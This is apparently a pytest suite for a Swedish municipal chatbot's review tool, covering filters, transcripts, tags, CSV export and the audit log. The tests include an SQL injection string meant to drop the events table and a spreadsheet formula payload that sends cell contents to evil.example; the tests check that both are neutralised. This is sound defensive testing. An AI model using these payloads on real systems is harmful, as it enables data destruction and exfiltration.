"""The conversation list, its filters, the transcript, tags, notes, the reviewed mark, the
CSV export and the audit log -- on SQLite and on PostgreSQL (a throw-away schema in the
`test` database; skipped with the reason when PostgreSQL does not answer).

The tracker store is written by Rasa's own SQLTrackerStore (tests/helpers/review.py).
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
import sqlalchemy as sa
from sanic import Sanic

from bot.review import accounts, queries
from bot.review.filters import Filters, swedish_datetime
from bot.review.tables import engine_for, events
from bot.web import WebConfig, create_app
from tests.helpers.review import (
    ALL,
    BASE,
    INJECTIONS,
    OLD,
    Client,
    add_feedback,
    add_staff,
    postgres_reachable,
    postgres_store,
    sqlite_store,
    write_conversations,
)

NEWEST_FIRST = ["simhall-1", "xss-1", "snow-1", "handoff-1", "fallback-1", "bygglov-1", "old-1"]
DAY = swedish_datetime(BASE.timestamp()).date().isoformat()


@pytest.fixture(autouse=True)
def _sanic_test_mode(monkeypatch):
    monkeypatch.setattr(Sanic, "test_mode", True)


@pytest.fixture(params=["sqlite", "postgresql"])
def db_url(request, tmp_path):
    if request.param == "sqlite":
        url, store = sqlite_store(tmp_path / "tracker.db")
        write_conversations(store)
        yield url
        return
    reason = postgres_reachable()
    if reason:
        pytest.skip(reason)
    with postgres_store() as (url, store):
        write_conversations(store)
        yield url


@pytest.fixture
def client(db_url) -> Client:
    add_feedback(db_url, "snow-1", 1, "down")
    add_feedback(db_url, "bygglov-1", 1, "up")
    add_staff(db_url, "rita", accounts.REVIEWER)
    add_staff(db_url, "adam", accounts.ADMIN)
    app = create_app(WebConfig(tracker_db_url=db_url), features=("review",))
    client = Client(app)
    assert client.login("adam").status == 303
    return client


def event_count(db_url: str) -> int:
    with engine_for(db_url).connect() as connection:
        return connection.execute(sa.select(sa.func.count()).select_from(events)).scalar_one()


def test_list_is_newest_first_and_reads_rasas_events(client):
    assert client.senders() == NEWEST_FIRST
    page = client.get("/granska/")
    assert page.status == 200
    assert page.text.index("när öppnar simhallen") < page.text.index("hur lång tid tar bygglov")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"fran": DAY, "till": DAY}, ALL - {"old-1"}),
        ({"till": OLD.date().isoformat()}, {"old-1"}),
        ({"intent": "ask_promises"}, {"bygglov-1", "snow-1"}),
        ({"intent": "nlu_fallback"}, {"fallback-1"}),
        ({"tjanst": "bygglov"}, {"bygglov-1", "xss-1"}),
        ({"tjanst": "snorojning"}, {"snow-1"}),
        ({"under": "0.7"}, {"snow-1", "xss-1", "fallback-1"}),
        ({"under": "0,5"}, {"xss-1", "fallback-1"}),
        ({"fallback": "ja"}, {"fallback-1"}),
        ({"handoff": "ja"}, {"handoff-1"}),
        ({"tumme_ner": "ja"}, {"snow-1"}),
        ({"sok": "plogar"}, {"snow-1"}),
        ({"sok": "BYGGLOV"}, {"bygglov-1", "xss-1"}),
        ({"sok": "ÖPPNAR"}, {"simhall-1"}),
        ({"sok": "Tider och löften"}, set()),  # the bot's words are not searched
        ({"tjanst": "bygglov", "under": "0.5"}, {"xss-1"}),
        ({"intent": "ask_promises", "tjanst": "snorojning", "fran": DAY}, {"snow-1"}),
        ({"sprak": "sv"}, {"bygglov-1", "snow-1"}),
        ({"sprak": "en"}, {"simhall-1"}),
        ({"sprak": "fi"}, set()),
        ({"sprak": "sv", "tjanst": "snorojning"}, {"snow-1"}),
    ],
)
def test_filters(client, query, expected):
    assert set(client.senders(**query)) == expected


def test_reviewed_and_tag_filters(client):
    assert client.post("/granska/samtal/snow-1/granskad", {"granskad": "ja"}).status == 303
    assert client.post("/granska/samtal/handoff-1/tagg", {"tag": "Svår fråga"}).status == 303
    assert client.post("/granska/samtal/snow-1/tagg", {"tag": "svår fråga"}).status == 303
    assert client.senders(granskad="ja") == ["snow-1"]
    assert set(client.senders(granskad="nej")) == ALL - {"snow-1"}
    assert client.senders(tagg="svår fråga") == ["snow-1", "handoff-1"]
    assert client.senders(tagg="svår fråga", granskad="nej") == ["handoff-1"]
    assert client.senders(tagg="finns inte") == []
    # unmark
    client.post("/granska/samtal/snow-1/granskad", {"granskad": "nej"})
    assert client.senders(granskad="ja") == []


def listed(client: Client, **query: str) -> list[str]:
    """The conversations the HTML list shows (first page), after checking it is a 200."""
    page = client.get("/granska/", params=query)
    assert page.status == 200, (query, page.text[:300])
    return re.findall(r'<tr data-sender="([^"]*)">', page.text)


@pytest.mark.parametrize("value", INJECTIONS)
def test_sql_injection_in_every_filter_and_search(client, db_url, value):
    """Text filters match literally (nothing has those values); the others are parsed
    first and ignore what they cannot read. No error, never an extra row."""
    before = event_count(db_url)
    for name in ("intent", "tjanst", "tagg", "sok"):
        assert listed(client, **{name: value}) == [], (name, value)
    assert client.senders(sok=value, intent=value) == []
    for name in ("fran", "till", "under", "fallback", "handoff", "tumme_ner", "granskad", "sida"):
        assert set(listed(client, **{name: value})) <= ALL, (name, value)
    assert client.get("/granska/oversikt", params={"fran": value, "till": value}).status == 200
    assert client.get("/granska/admin/logg", params={"vem": value, "sida": value}).status == 200
    assert client.get("/granska/nlu", params={"sida": value}).status == 200
    assert event_count(db_url) == before  # nothing dropped or deleted


def test_sql_injection_tag_and_note_are_stored_as_text(client):
    value = "x'); DROP TABLE events; --"
    client.post("/granska/samtal/snow-1/anteckning", {"text": value})
    assert client.get("/granska/api/samtal/snow-1").json["notes"][0]["text"] == value
    assert listed(client, tagg=value) == []


def test_unreadable_filters_are_named_and_ignored(client):
    page = client.get("/granska/", params={"fran": "2024-13-45", "under": "abc", "sprak": "xx"})
    assert page.status == 200
    assert "Filtret ”från datum” kunde inte läsas" in page.text
    assert "Filtret ”konfidens under” kunde inte läsas" in page.text
    assert "Filtret ”språk” kunde inte läsas" in page.text
    api = client.get("/granska/api/samtal", params={"fran": "2024-13-45"}).json
    assert api["ignored_filters"] == ["fran"]
    assert len(api["conversations"]) == len(ALL)


def test_list_rows_show_the_signals(client):
    rows = {
        row["sender_id"]: row for row in client.get("/granska/api/samtal").json["conversations"]
    }
    assert rows["bygglov-1"]["user_messages"] == 2
    assert rows["bygglov-1"]["services"] == ["bygglov"]
    assert rows["bygglov-1"]["intents"] == ["ask_promises", "thank"]
    assert rows["bygglov-1"]["thumbs_up"] == 1
    assert rows["snow-1"]["thumbs_down"] == 1
    assert rows["fallback-1"]["fallback"] and not rows["snow-1"]["fallback"]
    assert rows["fallback-1"]["lowest_confidence"] == pytest.approx(0.31)
    assert rows["handoff-1"]["handoff"]
    assert rows["simhall-1"]["first_text"] == "när öppnar simhallen"


def test_transcript_shows_nlu_replies_actions_and_feedback(client):
    page = client.get("/granska/samtal/snow-1")
    assert page.status == 200
    text = page.text
    assert "när plogar ni vår gata" in text
    assert "ask_promises" in text and "0,61" in text  # intent and confidence
    assert "ask_overview 0,30" in text and "ask_contact 0,05" in text  # top 3
    assert "service = snorojning" in text  # entities
    assert "<dt>Språk</dt>" in text and "<dd>svenska</dd>" in text  # the message's language
    assert "Tider och löften för snöröjning" in text  # the bot's reply
    assert "action_answer_service" in text  # the action
    assert "Tumme ner på svaret" in text  # the citizen's feedback
    lines = client.get("/granska/api/samtal/snow-1").json["lines"]
    user = next(line for line in lines if line["kind"] == "user")
    assert user["ranking"][:2] == [
        {"intent": "ask_promises", "confidence": 0.61},
        {"intent": "ask_overview", "confidence": 0.3},
    ]
    assert user["entities"] == [
        {"entity": "service", "value": "snorojning"},
        {"entity": "language", "value": "sv"},
    ]
    bot = next(line for line in lines if line["kind"] == "bot")
    assert bot["rating"] == "down" and bot["response"] == "utter_promises"
    assert [line["action"] for line in lines if line["kind"] == "action"] == [
        "action_session_start",
        "action_answer_service",
    ]


def test_fallback_transcript_shows_best_guess_and_buttons(client):
    text = client.get("/granska/samtal/fallback-1").text
    assert "nlu_fallback (bästa gissning: greet)" in text
    assert "Knappar: Något annat" in text
    assert "action_two_stage_fallback" in text


def test_tags_notes_and_reviewed_mark(client):
    assert client.post("/granska/samtal/bygglov-1/tagg", {"tag": "Bra svar"}).status == 303
    assert client.post("/granska/samtal/bygglov-1/tagg", {"tag": "<b>"}).status == 303  # refused
    lines = client.get("/granska/api/samtal/bygglov-1").json["lines"]
    user_event = next(line["event_id"] for line in lines if line["kind"] == "user")
    assert (
        client.post(
            "/granska/samtal/bygglov-1/anteckning",
            {"text": "Svaret var rätt.", "event_id": str(user_event)},
        ).status
        == 303
    )
    assert (
        client.post(
            "/granska/samtal/bygglov-1/anteckning", {"text": "Hela samtalet gick bra."}
        ).status
        == 303
    )
    assert client.post("/granska/samtal/bygglov-1/granskad", {"granskad": "ja"}).status == 303
    body = client.get("/granska/api/samtal/bygglov-1").json
    assert body["tags"] == ["bra svar"]
    assert body["reviewed_by"] == "adam"
    assert body["notes"][0]["text"] == "Hela samtalet gick bra."
    noted = next(line for line in body["lines"] if line["event_id"] == user_event)
    assert noted["notes"][0]["text"] == "Svaret var rätt."
    page = client.get("/granska/samtal/bygglov-1").text
    assert "Granskat av adam" in page and "Svaret var rätt." in page
    # a note on a message of another conversation is refused
    response = client.post(
        "/granska/samtal/snow-1/anteckning", {"text": "x", "event_id": str(user_event)}
    )
    assert "fel=bad_message" in response.headers["location"]
    # remove the tag
    client.post("/granska/samtal/bygglov-1/tagg/ta-bort", {"tag": "bra svar"})
    assert client.get("/granska/api/samtal/bygglov-1").json["tags"] == []


def test_annotating_an_unknown_conversation_is_404(client):
    assert client.post("/granska/samtal/finns-inte/tagg", {"tag": "x"}).status == 404
    assert client.post("/granska/samtal/finns-inte/granskad", {"granskad": "ja"}).status == 404


def test_csv_export_of_the_filtered_list(client):
    response = client.get("/granska/export/samtal.csv", params={"tjanst": "bygglov"})
    assert response.status == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["sender_id"] for r in rows] == ["xss-1", "bygglov-1"]
    assert rows[1]["tumme_upp"] == "1"
    messages = client.get(
        "/granska/export/samtal.csv", params={"tjanst": "bygglov", "innehall": "meddelanden"}
    )
    rows = list(csv.DictReader(io.StringIO(messages.text)))
    assert {r["sender_id"] for r in rows} == {"xss-1", "bygglov-1"}
    assert [r["roll"] for r in rows if r["sender_id"] == "bygglov-1"] == [
        "user",
        "bot",
        "user",
        "bot",
    ]


def test_csv_cells_cannot_run_as_formulas(client, db_url):
    from bot.review.views import _csv_safe

    assert _csv_safe('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert _csv_safe("+46 70") == "'+46 70"
    assert _csv_safe("hej") == "hej"


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")'


def test_no_cell_of_either_csv_export_can_run_as_a_formula(tmp_path):
    """Issue 14, finding 3: `/ask_promises{"service":"=HYPERLINK(...)"}` sent through the
    public API landed as a live formula in both exports (the services column)."""
    from tests.helpers.review import Conversation, Turn, service

    url, store = sqlite_store(tmp_path / "tracker.db")
    payload = "/ask_promises" + json.dumps({"service": FORMULA})
    turn = Turn(
        payload,
        "ask_promises",
        1.0,
        ranking=[{"name": "ask_promises", "confidence": 1.0}],
        entities=[
            {**service(FORMULA, 0, 0), "extractor": "RegexMessageHandler"},
            {**service("+1+1", 0, 0, "unknown_service"), "extractor": "RegexMessageHandler"},
        ],
        action="action_answer_service",
        bot_text="-1 svar @ någon",
        response="utter_promises",
    )
    write_conversations(store, [Conversation("formel-1", BASE, [turn])])
    add_staff(url, "adam", accounts.ADMIN)
    client = Client(create_app(WebConfig(tracker_db_url=url), features=("review",)))
    client.login("adam")
    for content in ("samtal", "meddelanden"):
        response = client.get("/granska/export/samtal.csv", params={"innehall": content})
        assert response.status == 200
        rows = list(csv.reader(io.StringIO(response.text)))
        assert len(rows) > 1
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], content
        assert any(cell.startswith("'" + FORMULA) for cell in cells), content


def test_audit_log_records_who_opened_and_exported_what(client, db_url):
    client.get("/granska/samtal/handoff-1")
    client.get("/granska/export/samtal.csv", params={"handoff": "ja"})
    client.get("/granska/nlu/export/traningsdata.yml")
    from bot.review import audit

    entries, _ = audit.entries(engine_for(db_url))
    actions = [(e.username, e.action, e.target) for e in entries]
    assert ("adam", audit.OPEN_CONVERSATION, "handoff-1") in actions
    assert ("adam", audit.EXPORT_CSV, "samtal") in actions
    assert ("adam", audit.EXPORT_NLU, "traningsdata.yml") in actions
    assert ("adam", audit.LOGIN, None) in actions
    csv_entry = next(e for e in entries if e.action == audit.EXPORT_CSV)
    assert json.loads(csv_entry.detail)["filters"] == {"handoff": True}
    page = client.get("/granska/admin/logg").text
    assert "Öppnade samtal" in page and "handoff-1" in page and "Exporterade CSV" in page


def test_feedback_table_may_be_missing(db_url):
    """Without the widget's API nobody has rated anything: the list, the thumbs filter,
    transcripts and the dashboard all still work."""
    add_staff(db_url, "rita", accounts.REVIEWER)
    engine = engine_for(db_url)
    assert not sa.inspect(engine).has_table("feedback")
    app = create_app(WebConfig(tracker_db_url=db_url), features=("review",))
    client = Client(app)
    client.login("rita")
    assert client.senders(tumme_ner="ja") == []
    assert len(client.senders()) == len(ALL)
    assert "Ingen återkoppling är sparad ännu" in client.get("/granska/").text
    assert client.get("/granska/samtal/snow-1").status == 200
    board = client.get("/granska/oversikt")
    assert board.status == 200 and "ingen återkoppling sparad" in board.text
    assert client.get("/granska/nlu").status == 200


def test_empty_tracker_store(tmp_path):
    """Before Rasa has stored anything the tool still answers."""
    url, _ = sqlite_store(tmp_path / "empty.db")
    add_staff(url, "rita", accounts.REVIEWER)
    client = Client(create_app(WebConfig(tracker_db_url=url), features=("review",)))
    client.login("rita")
    for path in ("/granska/", "/granska/nlu", "/granska/oversikt"):
        assert client.get(path).status == 200, path
    assert "Inga samtal matchar filtret" in client.get("/granska/").text


# --- the query layer directly ---------------------------------------------------------------


def test_pages_of_the_list(db_url):
    engine = engine_for(db_url)
    from bot.review.tables import create_tables

    create_tables(engine)
    first = queries.list_page(engine, Filters(), 1, page_size=3)
    second = queries.list_page(engine, Filters(), 2, page_size=3)
    third = queries.list_page(engine, Filters(), 3, page_size=3)
    assert [r.sender_id for r in first.rows + second.rows + third.rows] == NEWEST_FIRST
    assert first.has_next and second.has_next and not third.has_next


def test_small_batches_and_equal_timestamps(db_url, monkeypatch):
    """The newest-first scan reads window after window; messages with the same timestamp
    are neither lost nor repeated at a window's edge."""
    engine = engine_for(db_url)
    from bot.review.tables import create_tables

    create_tables(engine)
    rows = [
        {
            "sender_id": f"tie-{n}",
            "type_name": "user",
            "timestamp": 1_800_000_000.0,
            "intent_name": "greet",
            "action_name": None,
            "data": json.dumps(
                {
                    "event": "user",
                    "text": f"hej {n}",
                    "parse_data": {"intent": {"name": "greet", "confidence": 0.9}},
                }
            ),
        }
        for n in range(7)
    ]
    with engine.begin() as connection:
        connection.execute(events.insert(), rows)
    monkeypatch.setattr(queries.listing, "FIRST_WINDOW", 2)
    found = queries.matching_senders(engine, Filters())
    assert sorted(found[:7]) == sorted(r["sender_id"] for r in rows)
    assert found[7:] == NEWEST_FIRST
    assert len(found) == len(set(found))


def test_dates_nobody_means_are_named_and_ignored_not_a_500(client):
    """9999-12-31 used to overflow the day after it (a 500 on the list and the export)."""
    query = {"fran": "0001-01-01", "till": "9999-12-31"}
    page = client.get("/granska/", params=query)
    assert page.status == 200
    assert "Filtret ”till datum” kunde inte läsas" in page.text
    api = client.get("/granska/api/samtal", params=query).json
    assert api["ignored_filters"] == ["fran", "till"]
    assert len(api["conversations"]) == len(ALL)


@pytest.mark.parametrize("query", [{"till": "9999-12-31"}, {"fran": "2024-13-45"}])
def test_an_export_with_an_unreadable_filter_is_refused(client, query):
    """Without the filter it would export more than was asked for."""
    response = client.get("/granska/export/samtal.csv", params=query)
    assert response.status == 400
    assert "Ett filter kunde inte läsas" in response.text
    assert not response.headers["content-type"].startswith("text/csv")


def test_a_message_id_beyond_any_database_row_is_400(client):
    response = client.post(f"/granska/nlu/{'9' * 30}", {"beslut": "avfarda"})
    assert response.status == 400
    assert "Meddelandet finns inte i samtalet." in response.text


ODD_IDS = ["a+b", "a<b>&c", "rad\nbryt", "snedstreck/id", "fråga?id#1", "procent%20id", ".."]


def test_conversations_with_any_stored_sender_id_open(tmp_path):
    """Other channels store ids with characters a URL path treats specially; the list
    links to each (percent-encoded), the transcript opens, and the id is shown escaped."""
    import asyncio

    from rasa.shared.core.events import ActionExecuted, UserUttered
    from rasa.shared.core.trackers import DialogueStateTracker

    url, store = sqlite_store(tmp_path / "tracker.db")
    for sender in ODD_IDS:
        events = [ActionExecuted("action_listen"), UserUttered("hej", {"name": "greet"})]
        asyncio.run(store.save(DialogueStateTracker.from_events(sender, events)))
    add_staff(url, "adam", accounts.ADMIN)
    client = Client(create_app(WebConfig(tracker_db_url=url), features=("review",)))
    assert client.login("adam").status == 303

    listing = client.get("/granska/").text
    assert "a&lt;b&gt;&amp;c" in listing and "a<b>&c" not in listing
    links = re.findall(r'href="(/granska/samtal/[^"?]+)"', listing)
    assert len(set(links)) == len(ODD_IDS)
    for link in set(links):
        page = client.get(link.replace("&amp;", "&"))
        assert page.status == 200, link
        api = client.get(link.replace("/granska/samtal/", "/granska/api/samtal/"))
        assert api.status == 200 and api.json["sender_id"] in ODD_IDS, link
    opened = {
        client.get(link.replace("/granska/samtal/", "/granska/api/samtal/")).json["sender_id"]
        for link in set(links)
    }
    assert opened == set(ODD_IDS)


def test_the_transcript_shows_whether_the_ai_disclosure_was_shown(client):
    shown = client.get("/granska/samtal/handoff-1").text
    assert "Upplysningen att invånaren chattar med en automatisk chattbot visades" in shown
    disclosed = client.get("/granska/api/samtal/handoff-1").json["ai_disclosures"]
    assert len(disclosed) == 1 and disclosed[0] > BASE.timestamp()
    missing = client.get("/granska/samtal/snow-1").text
    assert "Upplysningen att invånaren chattar med en automatisk chattbot finns inte" in missing
    assert client.get("/granska/api/samtal/snow-1").json["ai_disclosures"] == []
